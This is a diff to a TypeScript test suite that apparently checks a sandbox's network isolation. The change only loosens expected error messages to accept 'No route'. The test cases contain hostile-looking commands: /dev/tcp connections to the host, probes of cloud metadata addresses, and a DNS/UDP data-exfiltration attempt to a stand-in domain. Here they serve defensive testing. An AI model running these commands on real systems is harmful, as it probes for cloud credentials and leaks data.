@@ -79,7 +79,7 @@ function defineTests(getFixture: () => EscapeFixture): void {
       {
         name: "on the host's address",
         command: "cat < /dev/tcp/$ADDRESS/$PORT",
-        expected: /refused|unreachable/,
+        expected: /refused|unreachable|No route/,
         onHost: greeting,
       },
       {
@@ -121,13 +121,13 @@ function defineTests(getFixture: () => EscapeFixture): void {
       {
         name: "cloud metadata services",
         command: "for a in 169.254.169.254 100.100.100.200 168.63.129.16; do cat < /dev/tcp/$a/80; done",
-        expected: /(?:[\s\S]*unreachable){3}/,
+        expected: /(?:[\s\S]*(?:unreachable|No route)){3}/,
       },
       {
         name: "data exfiltration by DNS",
         command:
           "getent hosts secret-words.example.com || echo none; echo x > /dev/udp/8.8.8.8/53; cat /etc/resolv.conf",
-        expected: /^none\n.*unreachable\n/,
+        expected: /^none\n.*(?:unreachable|No route to host)\n/,
       },
       {
         name: "changing devices or routes",
